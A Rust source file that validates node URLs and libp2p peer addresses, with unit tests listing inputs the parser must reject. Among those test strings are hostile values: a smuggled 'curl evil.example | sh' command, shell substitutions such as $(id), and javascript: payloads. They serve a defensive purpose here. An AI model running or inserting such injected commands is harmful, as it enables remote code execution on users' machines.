//! Where a node is reached: the base of its pages and the addresses of its peer port, as admissions
//! carry them. Both end up in links, in commands people paste and in dials, so nothing is taken but
//! what an address needs.

use std::{
    fmt,
    net::{Ipv4Addr, Ipv6Addr},
};

use crate::id::DOMAIN_CHARS_MAX;

/// Most peer addresses of a node: two families, a name for each, and room for a move.
pub const ADDRESSES_MAX: usize = 8;
/// Longest peer address: a DNS name with its protocols and a peer id.
const ADDRESS_CHARS_MAX: usize = 400;

/// Why a text is no address of a node.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AddressError {
    /// Not `http://host[:port]` or `https://host[:port]`.
    #[error(
        "is no public address: http:// or https://, a host and perhaps a port, and nothing else"
    )]
    Url,
    /// Not a libp2p address over TCP or QUIC.
    #[error("is no peer address such as /ip4/192.0.2.1/tcp/8802 or /dns/node.example/tcp/8802")]
    Peer,
    /// More than [`ADDRESSES_MAX`].
    #[error("has {0} peer addresses, at most {ADDRESSES_MAX} are taken")]
    TooMany(usize),
}

/// The base of a node's pages, calls and logs: scheme, host and port, without a slash at the end.
/// A host is a DNS name, an IPv4 address, or an IPv6 address in brackets.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PublicUrl(String);

impl PublicUrl {
    /// Parses it. One slash at the end is left out; a path, a query, a name of a user are refused.
    pub fn parse(text: &str) -> Result<Self, AddressError> {
        let base = text.strip_suffix('/').unwrap_or(text);
        let rest = base.strip_prefix("https://").or_else(|| base.strip_prefix("http://"));
        let rest = rest.ok_or(AddressError::Url)?;
        if is_authority(rest) { Ok(Self(base.to_owned())) } else { Err(AddressError::Url) }
    }

    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for PublicUrl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Checks the peer addresses of a node; it may have none and dial only.
pub fn check_peer_addresses(addresses: &[String]) -> Result<(), AddressError> {
    if addresses.len() > ADDRESSES_MAX {
        return Err(AddressError::TooMany(addresses.len()));
    }
    let all = addresses.iter().all(|address| is_peer_address(address));
    if all { Ok(()) } else { Err(AddressError::Peer) }
}

fn is_authority(text: &str) -> bool {
    let (host, port) = match text.strip_prefix('[') {
        Some(rest) => {
            let Some((host, port)) = rest.split_once(']') else { return false };
            return host.parse::<Ipv6Addr>().is_ok()
                && (port.is_empty() || port.strip_prefix(':').is_some_and(is_port));
        }
        None => text.split_once(':').map_or((text, None), |(host, port)| (host, Some(port))),
    };
    is_host(host) && port.is_none_or(is_port)
}

/// A DNS name or an IPv4 address. A name whose last label is a number would be read as an address.
fn is_host(host: &str) -> bool {
    let last = host.rsplit('.').next().unwrap_or_default();
    if !last.is_empty() && last.bytes().all(|byte| byte.is_ascii_digit()) {
        return host.parse::<Ipv4Addr>().is_ok();
    }
    is_name(host)
}

fn is_name(host: &str) -> bool {
    let is_label = |label: &str| {
        (1..=63).contains(&label.len())
            && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
            && !label.starts_with('-')
            && !label.ends_with('-')
    };
    host.len() <= DOMAIN_CHARS_MAX && host.split('.').all(is_label)
}

fn is_port(port: &str) -> bool {
    !port.starts_with(['0', '+']) && port.parse::<u16>().is_ok()
}

/// `/ip4|ip6|dns|dns4|dns6/<host>` and `/tcp/<port>` or `/udp/<port>/quic-v1`, perhaps `/p2p/<id>`.
fn is_peer_address(address: &str) -> bool {
    if address.len() > ADDRESS_CHARS_MAX {
        return false;
    }
    let mut parts = address.split('/');
    let host = (parts.next(), parts.next(), parts.next());
    let is_host = match host {
        (Some(""), Some("ip4"), Some(host)) => host.parse::<Ipv4Addr>().is_ok(),
        (Some(""), Some("ip6"), Some(host)) => host.parse::<Ipv6Addr>().is_ok(),
        (Some(""), Some("dns" | "dns4" | "dns6"), Some(host)) => is_name(host),
        _ => false,
    };
    let (transport, port) = (parts.next(), parts.next().unwrap_or_default());
    let is_carried = match transport {
        Some("tcp") => is_port(port),
        Some("udp") => is_port(port) && parts.next() == Some("quic-v1"),
        _ => false,
    };
    let is_named = match (parts.next(), parts.next(), parts.next()) {
        (None, None, None) => true,
        (Some("p2p"), Some(id), None) => {
            !id.is_empty() && id.bytes().all(|byte| byte.is_ascii_alphanumeric())
        }
        _ => false,
    };
    is_host && is_carried && is_named
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_public_address_is_scheme_host_and_port_and_nothing_else() {
        for (text, base) in [
            ("http://127.0.0.1:8800", "http://127.0.0.1:8800"),
            ("https://node.ningbo.example", "https://node.ningbo.example"),
            ("https://node.ningbo.example/", "https://node.ningbo.example"),
            ("http://[::1]:8800", "http://[::1]:8800"),
            ("http://[2001:db8::1]", "http://[2001:db8::1]"),
            ("http://localhost:65535", "http://localhost:65535"),
            ("https://Yinzhou-1.example", "https://Yinzhou-1.example"),
        ] {
            assert_eq!(PublicUrl::parse(text).expect(text).as_str(), base);
        }
        for text in [
            "",
            "/",
            "http://",
            "https:///",
            "javascript:alert(1)",
            "javascript://node.example/%0aalert(1)",
            "data:text/html,x",
            "ftp://node.example",
            "HTTP://node.example",
            "http://node.example'; curl evil.example | sh; '",
            "http://node.example\"",
            "http://node.example`id`",
            "http://node.example$(id)",
            "http://user@node.example",
            "http://user:secret@node.example",
            "http://node.example:0",
            "http://node.example:+80",
            "http://node.example:080",
            "http://node.example:65536",
            "http://node.example:",
            "http://node.example/pages",
            "http://node.example//",
            "http://node.example?x",
            "http://node.example#x",
            "http://node.example\\x",
            "http://node example",
            "http://node.example ",
            " http://node.example",
            "http://node..example",
            "http://-node.example",
            "http://市.example",
            "http://1.2.3",
            "http://1.2.3.4.5",
            "http://1.2.3.256",
            "http://0x7f.1",
            "http://[::1",
            "http://[::1]x",
            "http://[::g]",
            "http://::1",
            "http://node.example\u{202e}",
            "http://node.example\0",
        ] {
            assert_eq!(PublicUrl::parse(text), Err(AddressError::Url), "{text}");
        }
    }

    #[test]
    fn a_peer_address_is_a_host_and_a_transport() {
        let check = |address: &str, fits: bool| {
            let checked = check_peer_addresses(&[address.to_owned()]);
            assert_eq!(checked.is_ok(), fits, "{address}");
        };
        let id = "12D3KooWGzBXWNvHpLALvWm1LPoqkxGKdd8dmwT9NRN9hmX1zvKK";
        for address in [
            "/ip4/127.0.0.1/tcp/8802",
            "/ip6/::1/tcp/8802",
            "/dns/node.example/tcp/8802",
            "/dns4/node.example/udp/8802/quic-v1",
            &format!("/ip4/192.0.2.1/tcp/8802/p2p/{id}"),
        ] {
            check(address, true);
        }
        for address in [
            "",
            "/",
            "nonsense",
            "/ip4/127.0.0.1",
            "/ip4/localhost/tcp/1",
            "/ip4/127.0.0.1/tcp/65536",
            "/ip4/127.0.0.1/tcp/1/",
            "/ip4/127.0.0.1/tcp/1/ws",
            "/ip4/127.0.0.1/udp/1",
            "/dns/node example/tcp/1",
            "/dns/a;b/tcp/1",
            "/unix/run/x",
            "/memory/1",
            "/ip4/127.0.0.1/tcp/1/p2p/",
            "/ip4/127.0.0.1/tcp/1/p2p/a'b",
            &format!("/dns/{}/tcp/1", "a.".repeat(300)),
        ] {
            check(address, false);
        }
        let many = vec!["/ip4/127.0.0.1/tcp/1".to_owned(); ADDRESSES_MAX + 1];
        assert_eq!(check_peer_addresses(&many), Err(AddressError::TooMany(ADDRESSES_MAX + 1)));
        assert_eq!(check_peer_addresses(&[]), Ok(()));
    }
}
